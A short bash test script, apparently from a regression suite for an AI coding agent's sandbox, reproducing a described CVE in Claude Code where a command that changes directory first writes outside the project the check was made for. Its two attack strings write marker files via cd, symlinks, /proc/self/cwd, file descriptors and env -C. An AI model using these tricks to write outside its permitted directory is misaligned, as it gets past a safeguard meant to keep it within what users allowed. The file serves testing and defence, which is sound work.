#!/bin/bash
# CVE-2026-25722, Claude Code: a command that changes its directory first wrote where the check, made for
# the old directory, had not looked.
# Escaped: a file appears outside the project.
# shellcheck disable=SC2317,SC2034
NEEDS=commands
. "${0%/*}/../lib.sh"
prepare() { :; }
escaped() { [ -n "$(ls -A "$OUT")" ] || [ -e "$R/marker" ]; }
attack() { inside 'cd "$OUT" && echo x >marker; cd ..; echo x >out/marker; echo x >marker; cd "$WS/.." && touch out/marker; pushd "$OUT"; touch marker; (cd /proc/self/cwd/../out && touch marker)'; }
attempt "cd, then write"
attack() { inside 'ln -s "$OUT" l; cd l && touch marker; cd "$WS"; cd -P l; touch marker; exec 9<..; cd /proc/self/fd/9 && touch out/marker; env -C "$OUT" touch marker'; }
attempt "cd through a link or a descriptor"
